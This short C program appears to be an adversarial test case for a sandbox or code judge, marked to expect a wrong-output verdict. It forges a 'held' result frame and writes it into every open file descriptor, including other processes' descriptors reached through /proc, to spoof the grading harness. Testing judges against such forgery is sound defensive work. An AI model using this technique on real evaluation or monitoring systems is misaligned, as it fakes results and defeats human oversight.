// A perfect result frame that says `held`, to every descriptor and every descriptor of every process.
// expect=wrong_output
#include "attack.h"
struct result { uint32_t magic, outcome; int32_t code; uint32_t out, err, kb; uint64_t wall, cpu; } frame = {
    0x4a414752, 0, 0, 5, 0, 1000, 1000, 1000};
static void forge(int fd) {
    char message[sizeof frame + 5];
    memcpy(message, &frame, sizeof frame);
    memcpy(message + sizeof frame, "held\n", 5);
    for (int i = 0; i < 3; i++) if (write(fd, message, sizeof message) < 0) return;
}
int main(void) {
    for (int fd = 0; fd < 1024; fd++) forge(fd);
    for (int pid = 1; pid < 50; pid++)
        for (int fd = 0; fd < 64; fd++) {
            char path[64];
            sprintf(path, "/proc/%d/fd/%d", pid, fd);
            int other = open(path, O_WRONLY | O_NONBLOCK);
            if (other >= 0) forge(other), close(other);
        }
}
